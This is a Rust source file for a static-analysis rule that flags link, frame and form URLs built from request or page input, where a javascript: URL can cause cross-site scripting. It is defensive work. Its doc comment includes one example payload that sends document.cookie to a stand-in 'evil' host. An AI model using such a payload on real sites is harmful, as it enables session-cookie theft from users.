use crate::check::{
    AssignSite, CallSite, Cx, JsxSite, Report, Rule, RuleMeta, Unknown, accept, on, sink,
};
use crate::flow::guards_fixes_scheme as fixes_scheme;
use crate::ir::{ExprKind, Pattern, Span, StmtKind};
use crate::rule_doc;
use crate::syntax::Family;
use vibeguard_core::{Confidence, Severity};

rule_doc! {
    /// ## What it does
    /// Flags JSX URL attributes the browser follows or loads (and link addresses set
    /// through the DOM: `a.href = url`, `setAttribute("href", url)`, jQuery
    /// `.attr("href", url)`), set from request or page
    /// input: `href` (`<a>`, `<area>`, Next.js `<Link>`), `src` of `<iframe>`, `<frame>`
    /// and `<embed>`, `data` of `<object>`, `action` of `<form>` and `formAction`, with a
    /// value from `searchParams`, `useSearchParams()`, `useParams()`, the Next.js router's
    /// `query`, React Router's `useLocation()`, or the page address (`location.hash`,
    /// `document.URL`, ...). A scheme check on the branch (`startsWith("https://")`,
    /// `startsWith("/")`, `new URL(u).protocol` against constants, an anchored
    /// `/^https?:/` test), a host allowlist, a constant prefix that fixes the scheme
    /// (`"/users/" + id`), `encodeURIComponent` or `sanitizeUrl` (@braintree/sanitize-url)
    /// makes it safe. In Vue templates, the same attributes (`:href`, `v-bind:src`, ...)
    /// bound straight to the route's query, params or hash (`$route.query.next`, or `route.query.next` with `route =
    /// useRoute()`) is flagged too.
    ///
    /// ## Why is this bad?
    /// A `javascript:` (or `data:`) URL in a link or frame runs script with the page's
    /// privileges when it is clicked or loaded: `?next=javascript:fetch('//evil/'+
    /// document.cookie)` is cross-site scripting (CWE-79) that HTML escaping does not stop.
    ///
    /// ## Example
    /// ```jsx
    /// const next = useSearchParams().get("next");
    /// return <a href={next}>Continue</a>;
    /// ```
    ///
    /// ## Use instead
    /// ```jsx
    /// const next = useSearchParams().get("next") ?? "/";
    /// return <a href={next.startsWith("/") ? next : "/"}>Continue</a>;
    /// ```
    JsScriptUrl
}

static META: RuleMeta = RuleMeta {
    id: "js/javascript-url",
    title: "Link or frame URL from input (javascript: URLs)",
    cwe: &[79],
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    message: "URL from input used as a link or frame address: a javascript: URL runs script; allow only http(s) or same-site paths",
    family: Family::Js,
    keywords: &["href", "src=", "data=", "action="],
    calls: &["setAttribute", "attr", "prop"],
    on: on::JSX | on::MODULE | on::ASSIGN,
};

/// A link or form address set through the DOM (`a.href = url`,
/// `el.setAttribute("href", url)`, jQuery `.attr("href", url)`): any element's `href`,
/// `action` and `formAction` hold a URL the browser follows.
fn dom_url_attribute(attr: &str) -> bool {
    matches!(
        attr.to_ascii_lowercase().as_str(),
        "href" | "xlink:href" | "action" | "formaction"
    )
}

/// Report a URL from input set as a link address, unless a constant start fixes its
/// scheme.
fn url_sink(cx: &mut Cx<'_, '_>, span: Span, v: &crate::flow::value::Val) {
    if v.prefix.as_deref().is_some_and(fixes_scheme) {
        return;
    }
    cx.sink_from(
        span,
        v,
        sink::SCRIPT_URL,
        accept::REQUEST,
        Unknown::Skip,
        None,
    );
}

/// Does attribute `attr` of element `tag` hold a URL the browser navigates to or loads
/// as a document?
fn url_attribute(tag: &str, attr: &str) -> bool {
    let tag = tag.rsplit('.').next().unwrap_or(tag);
    match attr {
        "href" | "xlinkHref" => true,
        "src" => matches!(tag, "iframe" | "frame" | "embed"),
        "data" => tag == "object",
        "action" => tag == "form",
        "formAction" => matches!(tag, "button" | "input"),
        _ => false,
    }
}

impl Rule for JsScriptUrl {
    crate::rule_meta!(META);
    fn module(&self, cx: &mut Cx<'_, '_>) {
        let path = cx.path();
        if !(path.len() > 4 && path[path.len() - 4..].eq_ignore_ascii_case(".vue")) {
            return;
        }
        // `const route = useRoute()` in the component's script.
        let mut routes: Vec<String> = vec!["$route".to_string()];
        if let Some(top) = cx.module().funcs.first() {
            for s in &top.body {
                if let StmtKind::Assign {
                    target: Pattern::Name(n, _),
                    value,
                } = &s.kind
                    && let Some(c) = value.as_call()
                    && cx.path_of(&c.callee).as_deref() == Some("vue-router.useRoute")
                {
                    routes.push(n.clone());
                }
            }
        }
        let src = cx.whole_text();
        let template = &src[..src.find("<script").unwrap_or(src.len())];
        let mut hits = Vec::new();
        // `:href="..."`, `v-bind:src="..."`: the bound attribute and its element.
        let mut from = 0;
        while let Some(at) = template[from..].find(":").map(|i| i + from) {
            from = at + 1;
            let name_len = template[from..]
                .find(|c: char| !c.is_ascii_alphanumeric())
                .unwrap_or(0);
            let attr = &template[from..from + name_len];
            let Some(start) = template[from + name_len..]
                .strip_prefix("=\"")
                .map(|_| from + name_len + 2)
            else {
                continue;
            };
            let Some(len) = template[start..].find('"') else {
                break;
            };
            let bound_here = template[..at].ends_with(|c: char| c.is_whitespace())
                || template[..at].ends_with("v-bind");
            let tag = template[..at]
                .rfind('<')
                .map(|lt| &template[lt + 1..at])
                .and_then(|t| t.split(|c: char| c.is_whitespace()).next())
                .unwrap_or("");
            if bound_here
                && url_attribute(tag, attr)
                && route_input(template[start..start + len].trim(), &routes)
            {
                let begin = if template[..at].ends_with("v-bind") {
                    at - 6
                } else {
                    at
                };
                hits.push(Span::new(begin, start + len + 1));
            }
            from = start + len;
        }
        for span in hits {
            cx.report(Report::at(span));
        }
    }
    fn assign(&self, cx: &mut Cx<'_, '_>, site: &AssignSite<'_>) {
        // `link.href = url`; not `location.href = url`, a navigation (js/open-redirect).
        if let Pattern::Attr(obj, attr, _) = site.target
            && dom_url_attribute(attr)
            && obj.last_name().is_none_or(|n| n != "location")
        {
            url_sink(cx, site.span, site.val);
        }
    }
    fn call(&self, cx: &mut Cx<'_, '_>, site: &CallSite<'_>) {
        if site.recv.is_none() || site.call.args.len() != 2 {
            return;
        }
        if site
            .call
            .arg(0)
            .and_then(|a| a.as_str())
            .is_some_and(dom_url_attribute)
            && let Some(v) = site.arg_val(1)
        {
            url_sink(cx, site.span, v);
        }
    }
    fn jsx(&self, cx: &mut Cx<'_, '_>, site: &JsxSite<'_>) {
        if !url_attribute(site.tag, site.attr) {
            return;
        }
        // Next.js `<Link href={{ pathname: "/search", query: { q } }}>`: the query is
        // encoded into the address; the pathname (or a protocol) decides the scheme.
        if matches!(site.value.kind, ExprKind::Dict(_)) {
            for part in ["protocol", "pathname", "href"] {
                if let Some(v) = site.val.field(part)
                    && !v.prefix.as_deref().is_some_and(fixes_scheme)
                    && cx.sink_from(
                        site.span,
                        &v,
                        sink::SCRIPT_URL,
                        accept::REQUEST,
                        Unknown::Skip,
                        None,
                    )
                {
                    return;
                }
            }
            return;
        }
        // `"/users/" + id`, `https://x.example/${q}`: the constant start fixes the scheme.
        if site.val.prefix.as_deref().is_some_and(fixes_scheme) {
            return;
        }
        cx.sink_from(
            site.span,
            site.val,
            sink::SCRIPT_URL,
            accept::REQUEST,
            Unknown::Skip,
            None,
        );
    }
}

/// A Vue binding that is exactly a value of the current route's address:
/// `$route.query.next`, `route.params.url`, `route.hash` (with `route` from `useRoute()`).
/// Anything else (a call, a ternary, a constant prefix) is left alone.
fn route_input(expr: &str, routes: &[String]) -> bool {
    if expr.is_empty()
        || !expr
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '$' | '.'))
    {
        return false;
    }
    let mut parts = expr.split('.');
    let (Some(root), Some(field)) = (parts.next(), parts.next()) else {
        return false;
    };
    routes.iter().any(|r| r == root) && matches!(field, "query" | "params" | "hash")
}
